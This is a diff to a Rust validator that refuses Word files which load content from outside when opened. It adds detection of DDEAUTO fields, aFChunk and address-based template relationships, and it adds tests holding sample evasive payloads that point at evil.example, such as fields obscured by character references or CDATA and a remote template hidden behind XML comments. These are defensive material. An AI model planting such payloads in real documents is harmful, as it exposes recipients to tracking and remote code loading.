@@ -185,39 +185,54 @@ fn zip_document(b: &[u8]) -> Option<FileKind> {
     }
     // Nothing fetched from elsewhere when it is opened (a remote template, a frame, an
     // image or object by address, a field that includes a picture or text by address): only
-    // hyperlinks may point outside. A part that cannot be read is refused, and so is a name
-    // written with %-escapes (which would hide a part from these checks).
+    // hyperlinks may point outside. Every part but pictures is read, whatever its name; a part
+    // that cannot be read is refused, and so is a name written with %-escapes. At most
+    // `MAX_SCANNED_BYTES` are unpacked in all, counted as they come (not as the file claims).
     if lower.iter().any(|n| n.contains(&b'%')) {
         return None;
     }
-    let mut scanned = 0usize;
+    let mut budget = MAX_SCANNED_BYTES;
     for e in &entries {
         let name = e.name.to_ascii_lowercase();
+        let picture = [
+            ".png", ".jpg", ".jpeg", ".gif", ".bmp", ".tif", ".tiff", ".emf", ".wmf",
+        ]
+        .iter()
+        .any(|x| name.ends_with(x.as_bytes()));
+        if picture || name.ends_with(b"/") {
+            continue;
+        }
         let rels = name.ends_with(b".rels") || name.windows(5).any(|w| w == b"_rels");
         if rels {
-            if fetches_from_outside(&entry_data(b, e)?)? {
+            let data = entry_data(b, e)?;
+            budget = budget.checked_sub(data.len())?;
+            if fetches_from_outside(&data)? {
                 return None;
             }
-        } else if name.starts_with(b"word/") && name.ends_with(b".xml") {
-            scanned += e.unpacked;
-            if scanned > MAX_SCANNED_BYTES || includes_by_field(b, e)? {
-                return None;
-            }
+        } else if includes_by_field(b, e, &mut budget)? {
+            return None;
         }
     }
     Some(FileKind::Docx)
 }
 
-/// The text of Word parts scanned for fields at most, in all (unpacked).
+/// Bytes unpacked at most while reading a Word file's parts, in all.
 const MAX_SCANNED_BYTES: usize = 64 * 1024 * 1024;
 
-/// Whether an Office relationship part has an external relationship other than a hyperlink;
+/// Whether an Office relationship part has a relationship that fetches from elsewhere (an
+/// external one, or one whose target is an address, other than a hyperlink; an `aFChunk`);
 /// `None` when it is not plain UTF-8 XML whose relationships can be read for certain (other
-/// encodings, character references, declared entities, broken attributes).
+/// encodings, character references, declared entities, comments, CDATA, processing
+/// instructions past the declaration, attributes that cannot be read or come twice).
 fn fetches_from_outside(rels: &[u8]) -> Option<bool> {
     let text = std::str::from_utf8(rels).ok()?;
     let lower = text.to_ascii_lowercase();
-    if lower.contains("&#") || lower.contains("<!doctype") || lower.contains("<!entity") {
+    let body = lower.trim_start_matches('\u{feff}').trim_start();
+    let body = match body.strip_prefix("<?xml") {
+        Some(rest) => &rest[rest.find("?>")? + 2..],
+        None => body,
+    };
+    if ["&#", "<!", "<?"].iter().any(|m| body.contains(m)) {
         return None;
     }
     let mut rest = text;
@@ -234,6 +249,21 @@ fn fetches_from_outside(rels: &[u8]) -> Option<bool> {
         }
         let (attrs, after) = attributes(rest)?;
         rest = after;
+        let mut locals: Vec<String> = attrs
+            .iter()
+            .map(|(n, _)| {
+                n.rsplit(':')
+                    .next()
+                    .unwrap_or_default()
+                    .to_ascii_lowercase()
+            })
+            .collect();
+        let n = locals.len();
+        locals.sort();
+        locals.dedup();
+        if locals.len() != n {
+            return None;
+        }
         let value = |wanted: &str| {
             attrs
                 .iter()
@@ -245,9 +275,14 @@ fn fetches_from_outside(rels: &[u8]) -> Option<bool> {
                 })
                 .map(|(_, v)| v.trim())
         };
-        let external = value("TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("external"));
-        let hyperlink = value("Type").is_some_and(|t| t.ends_with("/relationships/hyperlink"));
-        if external && !hyperlink {
+        let kind = value("Type").unwrap_or_default();
+        let hyperlink = kind.ends_with("/relationships/hyperlink");
+        let target = value("Target").unwrap_or_default().to_ascii_lowercase();
+        let address =
+            target.contains(':') || target.starts_with("//") || target.starts_with("\\\\");
+        let external =
+            value("TargetMode").is_some_and(|m| m.eq_ignore_ascii_case("external")) || address;
+        if (external && !hyperlink) || kind.to_ascii_lowercase().ends_with("/afchunk") {
             return Some(true);
         }
     }
@@ -277,78 +312,120 @@ fn attributes(s: &str) -> Option<(Vec<(&str, &str)>, &str)> {
     }
 }
 
+/// Reads XML as it comes: numeric character references read as what they stand for (in text
+/// and in attributes alike), and the text outside tags and inside CDATA without spaces.
+#[derive(Default)]
+struct FieldScanner {
+    /// The last bytes, tags and all, references read.
+    raw: Vec<u8>,
+    /// The last bytes of text.
+    text: Vec<u8>,
+    /// A reference being read (after `&`).
+    entity: Option<Vec<u8>>,
+    /// Inside a tag: its first bytes (to tell a CDATA section).
+    tag: Option<Vec<u8>>,
+    cdata: bool,
+}
+
+impl FieldScanner {
+    const NEEDLES: [&'static [u8]; 3] = [b"includepicture", b"includetext", b"ddeauto"];
+
+    fn hit(w: &[u8]) -> bool {
+        Self::NEEDLES.iter().any(|n| w.ends_with(n))
+    }
+
+    fn keep(w: &mut Vec<u8>) {
+        if w.len() > 64 {
+            w.drain(..w.len() - 32);
+        }
+    }
+
+    /// Reads one byte; true when a field that fetches by address has been read.
+    fn push(&mut self, c: u8) -> bool {
+        let c = c.to_ascii_lowercase();
+        if let Some(ent) = self.entity.as_mut() {
+            if c != b';' && ent.len() <= 10 {
+                ent.push(c);
+                return false;
+            }
+            let name = String::from_utf8_lossy(ent).to_string();
+            self.entity = None;
+            let v = name
+                .strip_prefix('#')
+                .and_then(|d| match d.strip_prefix('x') {
+                    Some(h) => u32::from_str_radix(h, 16).ok(),
+                    None => d.parse().ok(),
+                });
+            return match v.and_then(char::from_u32).filter(char::is_ascii) {
+                Some(ch) => self.read(ch as u8),
+                None => false,
+            };
+        }
+        if c == b'&' {
+            self.entity = Some(Vec::new());
+            return false;
+        }
+        self.read(c)
+    }
+
+    fn read(&mut self, c: u8) -> bool {
+        let c = c.to_ascii_lowercase();
+        self.raw.push(c);
+        Self::keep(&mut self.raw);
+        if Self::hit(&self.raw) {
+            return true;
+        }
+        if self.cdata {
+            if self.raw.ends_with(b"]]>") {
+                self.cdata = false;
+                return false;
+            }
+        } else if let Some(tag) = self.tag.as_mut() {
+            if c == b'>' {
+                self.tag = None;
+            } else if tag.len() < 8 {
+                tag.push(c);
+                if tag.as_slice() == b"![cdata[" {
+                    self.tag = None;
+                    self.cdata = true;
+                }
+            }
+            return false;
+        } else if c == b'<' {
+            self.tag = Some(Vec::new());
+            return false;
+        }
+        if c.is_ascii_whitespace() || c == b']' {
+            return false;
+        }
+        self.text.push(c);
+        Self::keep(&mut self.text);
+        Self::hit(&self.text)
+    }
+}
+
 /// Whether a Word part has a field that fetches a picture or text by address
-/// (`INCLUDEPICTURE`, `INCLUDETEXT`), in an instruction attribute or in field text split over
-/// runs; `None` when the part cannot be read. Read as it is unpacked, never whole.
-fn includes_by_field(b: &[u8], e: &ZipEntry) -> Option<bool> {
+/// (`INCLUDEPICTURE`, `INCLUDETEXT`, `DDEAUTO`), in an instruction attribute or in field text
+/// split over runs, CDATA or references; `None` when the part cannot be read or the budget
+/// of unpacked bytes runs out. Read as it is unpacked, never whole.
+fn includes_by_field(b: &[u8], e: &ZipEntry, budget: &mut usize) -> Option<bool> {
     use std::io::Read;
-    const NEEDLES: [&[u8]; 2] = [b"includepicture", b"includetext"];
     let data = entry_bytes(b, e)?;
     let mut reader: Box<dyn Read> = match e.method {
         0 => Box::new(data),
         8 => Box::new(flate2::read::DeflateDecoder::new(data)),
         _ => return None,
     };
-    // The last bytes as they are, and the text outside tags without spaces (numeric
-    // character references read as what they stand for).
-    let (mut raw, mut text, mut entity) = (Vec::new(), Vec::new(), None::<Vec<u8>>);
-    let mut in_tag = false;
-    let mut total = 0usize;
+    let mut scanner = FieldScanner::default();
     let mut buf = [0u8; 64 * 1024];
-    let hit = |w: &[u8]| NEEDLES.iter().any(|n| w.ends_with(n));
-    let keep = |w: &mut Vec<u8>| {
-        if w.len() > 32 {
-            w.drain(..w.len() - 16);
-        }
-    };
     loop {
         let n = reader.read(&mut buf).ok()?;
         if n == 0 {
             return Some(false);
         }
-        total += n;
-        if total > MAX_SCANNED_BYTES {
-            return None;
-        }
-        for &c in &buf[..n] {
-            let c = c.to_ascii_lowercase();
-            raw.push(c);
-            keep(&mut raw);
-            if hit(&raw) {
-                return Some(true);
-            }
-            if let Some(ent) = entity.as_mut() {
-                if c == b';' || ent.len() > 10 {
-                    let name = String::from_utf8_lossy(ent).to_string();
-                    // Only numeric references (`&#80;`, `&#x50;`) can stand for letters.
-                    let v = name
-                        .strip_prefix('#')
-                        .and_then(|d| match d.strip_prefix('x') {
-                            Some(h) => u32::from_str_radix(h, 16).ok(),
-                            None => d.parse().ok(),
-                        });
-                    if let Some(ch) = v.and_then(char::from_u32).filter(char::is_ascii) {
-                        text.push((ch as u8).to_ascii_lowercase());
-                    }
-                    entity = None;
-                } else {
-                    ent.push(c);
-                    continue;
-                }
-            } else if c == b'<' {
-                in_tag = true;
-            } else if c == b'>' {
-                in_tag = false;
-            } else if !in_tag && c == b'&' {
-                entity = Some(Vec::new());
-                continue;
-            } else if !in_tag && !c.is_ascii_whitespace() {
-                text.push(c);
-            }
-            keep(&mut text);
-            if hit(&text) {
-                return Some(true);
-            }
+        *budget = budget.checked_sub(n)?;
+        if buf[..n].iter().any(|c| scanner.push(*c)) {
+            return Some(true);
         }
     }
 }
@@ -770,6 +847,34 @@ mod tests {
                     ("[Content_Types].xml", b"<Types/>"),
                     ("word/document.xml", br#"<w:document><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>&#80;ICTURE "http://evil.example/p.png" \d</w:instrText></w:r></w:document>"#),
                 ]),
+            ),
+            (
+                "a field in an attribute written with a reference",
+                word_with("word/header1.xml", br#"<w:hdr><w:fldSimple w:instr="&#73;NCLUDEPICTURE &quot;http://evil.example/p.png&quot; \d"/></w:hdr>"#),
+            ),
+            (
+                "a field split by CDATA",
+                word_with("word/footer1.xml", br#"<w:ftr><w:instrText><![CDATA[INCLUDEPIC]]>TURE "http://evil.example/p"</w:instrText></w:ftr>"#),
+            ),
+            (
+                "a field in a part not named word/*.xml",
+                word_with("x/main.xml", br#"<w:document><w:instrText>DDEAUTO c:\\x "a"</w:instrText></w:document>"#),
+            ),
+            (
+                "a relationship hidden behind a comment",
+                word_with("word/_rels/settings.xml.rels", br#"<Relationships><!-- <Relationship x=' --><Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/><!-- ' /> --></Relationships>"#),
+            ),
+            (
+                "a prefixed attribute before the real one",
+                word_with("word/_rels/settings.xml.rels", br#"<Relationships><Relationship x:Type="x/relationships/hyperlink" Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/></Relationships>"#),
+            ),
+            (
+                "a template by address without a target mode",
+                word_with("word/_rels/settings.xml.rels", br#"<Relationships><Relationship Type="x/attachedTemplate" Target="\\evil.example\share\t.dotm"/></Relationships>"#),
+            ),
+            (
+                "an alternative chunk",
+                word_with("word/_rels/document.xml.rels", br#"<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="chunk.html"/></Relationships>"#),
             ),
             (
                 "an entry left out of the end record's count",
